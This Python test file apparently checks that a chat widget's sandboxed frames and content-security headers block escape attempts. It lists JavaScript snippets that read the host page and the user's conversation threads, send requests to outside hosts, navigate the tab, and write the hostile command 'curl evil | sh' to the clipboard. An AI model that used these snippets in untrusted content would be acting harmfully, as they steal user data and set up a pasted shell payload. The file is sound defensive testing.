"""Attempts that the browser refuses, because our headers and the sandboxes of the two frames say so."""

from functools import partial

from escapes import FRAME, RELAY, SANDBOX, Defence, answered, arrived, attempt, happened, permission, policy, token

reach = partial(attempt, proof=arrived)
ORIGIN = token("allow-same-origin")
CONNECT, FRAMES, SCRIPTS = policy("connect-src"), policy("frame-src"), policy("script-src")
IMAGES, STYLES, FONTS, MEDIA = policy("img-src"), policy("style-src"), policy("font-src"), policy("media-src")
POPUPS, MODALS, TOP = token("allow-popups"), token("allow-modals"), token("allow-top-navigation")
DOWNLOADS = token("allow-downloads")
NO_SANDBOX = Defence(
    "the sandboxes",
    ((RELAY, f'sandbox="{SANDBOX}"', ""), (FRAME, f'sandbox: "{SANDBOX}",', "")),
    {"sandbox": ""},
)

ORIGINS = [
    attempt("reads-the-page", "top.document.querySelector('agui-chat') !== null", ORIGIN),
    attempt("writes-a-cookie", "(document.cookie = 'a=1', document.cookie.includes('a=1'))", ORIGIN),
    attempt("opens-local-storage", "(localStorage.a = 1, localStorage.length > 0)", ORIGIN),
    attempt(
        "reads-conversations-as-the-user",
        "fetch(SITE('/agent/threads/')).then((response) => response.json()).then(({ threads }) => threads.length > 0)",
        ORIGIN,
        CONNECT,
    ),
]
NAVIGATION = [
    reach("takes-the-tab-elsewhere", "top.location = OUT", TOP),
    attempt(
        "goes-back-in-the-tab-s-history",
        "history.back()",
        TOP,
        proof=lambda scene: scene.page.locator(".activity").count() == 0,
        gap="firefox",
        spoils=True,
    ),
    reach("takes-its-frame-elsewhere", "location.href = OUT", FRAMES, spoils=True),
    attempt("takes-its-frame-to-the-site", "location.href = SITE('/livez')", FRAMES, spoils=True, proof=answered),
    attempt(
        "takes-its-frame-to-data",
        "location.href = 'data:text/html,' + NAME",
        FRAMES,
        spoils=True,
        proof=lambda scene: any(frame.url.startswith("data:") for frame in scene.page.frames),
        only="chromium",
    ),
    attempt("takes-the-outer-frame-elsewhere", "parent.location = SITE('/livez')", NO_SANDBOX, proof=answered),
    reach("frames-a-page-of-elsewhere", "add(`<iframe src='${OUT}'></iframe>`)", FRAMES),
    reach("loads-an-object", "add(`<object data='${OUT}'></object>`)", policy("object-src", "frame-src")),
    reach(
        "sends-a-form",
        "(add(`<form action='${OUT}'><input name=a></form>`), document.forms[0].submit())",
        token("allow-forms"),
        policy("form-action", "frame-src"),
    ),
    attempt("moves-its-base", "(add(`<base href='${OUT}'>`), document.baseURI === OUT)", policy("base-uri")),
]
WORKER = "new Worker(URL.createObjectURL(new Blob([`{}`], {{ type: 'text/javascript' }})))"
NETWORK = [
    reach("fetches", "fetch(OUT, { mode: 'no-cors' })", CONNECT),
    attempt("fetches-from-the-site", "fetch(SITE('/livez'), { mode: 'no-cors' })", CONNECT, proof=answered),
    reach("opens-a-socket", "new WebSocket(OUT.replace('http', 'ws'))", CONNECT),
    attempt(
        "opens-a-web-transport",
        "new WebTransport(OUT.replace('http', 'https')).ready",
        CONNECT,
        proof=lambda scene: scene.outside.datagrams > 0,
    ),
    reach("fetches-in-a-worker", WORKER.format("fetch('${OUT}')"), CONNECT),
    reach("loads-a-script", "add(`<script src='${OUT}'></script>`)", SCRIPTS),
    attempt(
        "runs-text-as-code",
        # Playwright itself may do that in the call that it makes.
        "new Promise((done) => setTimeout(() => done(attempt(() => eval('true')))))",
        SCRIPTS,
    ),
    reach("loads-an-image", "(new Image()).src = OUT", IMAGES),
    reach("loads-a-style", "add(`<link rel=stylesheet href='${OUT}'>`)", STYLES),
    reach(
        "loads-a-font",
        "add(`<style>@font-face { font-family: x; src: url(${OUT}) } h1 { font-family: x }</style>`)",
        FONTS,
    ),
    reach("loads-a-video", "add(`<video src='${OUT}' autoplay muted></video>`)", MEDIA),
    reach("prefetches", "add(`<link rel=prefetch href='${OUT}'>`)", policy("default-src")),
]
CLICK = "(add(`<a {}>x</a>`), [...document.links].at(-1).click())"
WINDOWS = [
    attempt("opens-a-window", "open(OUT)", POPUPS, proof=happened("popup")),
    attempt("shows-an-alert", "alert('Your session has ended')", MODALS, proof=happened("dialog")),
    attempt(
        "downloads", CLICK.format("href='data:text/plain,x' download='x.txt'"), DOWNLOADS, proof=happened("download")
    ),
    attempt("fills-the-screen", "document.body.requestFullscreen().then(() => true)", permission("fullscreen")),
    attempt(
        "takes-the-pointer",
        """new Promise((done) => {
          document.addEventListener("pointerlockchange", () => done(true));
          document.body.requestPointerLock()?.catch((error) => done(error.name));
          document.addEventListener("pointerlockerror", () => done("error"));
        })""",
        token("allow-pointer-lock"),
    ),
    attempt(
        "reads-the-clipboard",
        "(focus(), navigator.clipboard.readText().then(() => true))",
        permission("clipboard-read"),
        only="chromium",
    ),
    attempt(
        "writes-the-clipboard",
        "(focus(), navigator.clipboard.writeText('curl evil | sh').then(() => true))",
        permission("clipboard-write"),
        prepare=lambda scene: scene.show_again(),  # Firefox asks for a click that is not long ago.
        gap="firefox",
    ),
    attempt(
        "asks-where-the-user-is",
        "new Promise((done) => navigator.geolocation.getCurrentPosition(() => done(true), () => done(false)))",
        permission("geolocation"),
        prepare=lambda scene: scene.page.context.set_geolocation({"latitude": 1, "longitude": 1}),
        only="chromium",
    ),
]
